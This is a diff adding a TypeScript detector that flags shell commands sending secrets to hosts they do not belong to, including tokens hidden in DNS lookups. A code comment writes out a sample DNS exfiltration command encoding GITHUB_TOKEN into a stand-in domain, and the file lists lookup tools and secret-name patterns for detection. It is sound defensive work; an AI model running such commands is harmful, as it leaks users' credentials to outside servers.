@@ -1,0 +1,70 @@
+import { foreignKey, ownHost } from '../semantic/sends-secrets.js';
+import { programName, type ProgramTable } from './programs.js';
+import type { SimpleCommand } from './shell-words.js';
+import { hostOf, variableReference } from './url-variables.js';
+
+// What a request carries once the shell has filled its words in: a service's key variable (`-H "X-T:
+// $GITHUB_TOKEN"`, `-d "$(printenv STRIPE_SECRET_KEY)"`) or a credential a CLI prints (`$(gh auth token)`).
+// Sent to the service it is for (api.github.com), that is how the service's API is called; sent to another
+// host, it leaks there. A DNS name goes to whoever serves its zone: a secret built into one (`host
+// "$(printenv GITHUB_TOKEN | xxd -p).d.x.example"`) reaches that server, and no service takes keys so.
+// (A key variable in the URL itself is url-variables.ts' reading.)
+
+/** Programs that look a name up (or resolve it first): the name is what they send. */
+export const lookups: ReadonlySet<string> = new Set(['host', 'dig', 'nslookup', 'drill', 'kdig', 'ping', 'ping6', 'resolvectl', 'getent']);
+
+// A variable named for a secret, whoever's it is (a looked-up name may carry no key at all).
+const secretName = /(?:^|_)(?:api_?key|key|token|secret|password|passwd|pat|credentials?)$/;
+
+/**
+ * Why `name args` sends a secret where it does not belong, or undefined. `printed(argv)` tells whether a
+ * substituted command prints a stored credential. Linear in the words.
+ */
+export function sentSecret(
+  table: ProgramTable,
+  name: string,
+  args: readonly string[],
+  substitutions: readonly SimpleCommand[],
+  printed: (argv: readonly string[]) => boolean,
+): string | undefined {
+  const lookup = lookups.has(name);
+  let host: string | undefined;
+  if (!lookup) {
+    for (const a of args) {
+      const m = hostOf.exec(a);
+      if (m === null) continue;
+      host = m[1]!.toLowerCase();
+      break;
+    }
+    // No URL, or a host a variable decides: nothing is known of where the request goes.
+    if (host === undefined || host.includes('$') || host.includes('%')) return undefined;
+  }
+  const names: string[] = [];
+  for (const a of args) {
+    if (!a.includes('$') && !a.includes('%')) continue;
+    // The URL's own variables are url-variables.ts' (read there with the host they go to).
+    if (!lookup && hostOf.test(a)) continue;
+    variableReference.lastIndex = 0;
+    for (let m = variableReference.exec(a); m !== null && names.length < 16; m = variableReference.exec(a)) names.push((m[1] ?? m[2] ?? m[3] ?? m[4])!.toLowerCase());
+  }
+  const clis: string[] = [];
+  for (const sub of substitutions) {
+    const argv = sub.argv;
+    const program = programName(argv[0] ?? '');
+    // `printenv NAME` prints one variable: what `$NAME` would be.
+    if (program === 'printenv') for (let i = 1; i < argv.length && names.length < 16; i++) if (!argv[i]!.startsWith('-')) names.push(argv[i]!.toLowerCase());
+    if (printed(argv)) clis.push(program);
+  }
+  if (lookup) {
+    const secret = names.find((n) => secretName.test(n));
+    if (secret !== undefined) return `the looked-up name carries ${secret.toUpperCase()}`;
+    return clis.length > 0 ? `the looked-up name carries what ${clis[0]} prints` : undefined;
+  }
+  const to = host!;
+  if (names.length > 0 && foreignKey(names.join(' '), to)) return `${names.join(' ').toUpperCase()} sent to ${to}`;
+  // A CLI's credential for no one service (a password manager's, a cluster's secret) belongs to no outside host.
+  if (clis.length > 0 && !ownHost(to)) {
+    for (const cli of clis) if (!table.credentialHomes.get(cli)?.some((word) => to.includes(word))) return `the credential ${cli} prints, sent to ${to}`;
+  }
+  return undefined;
+}
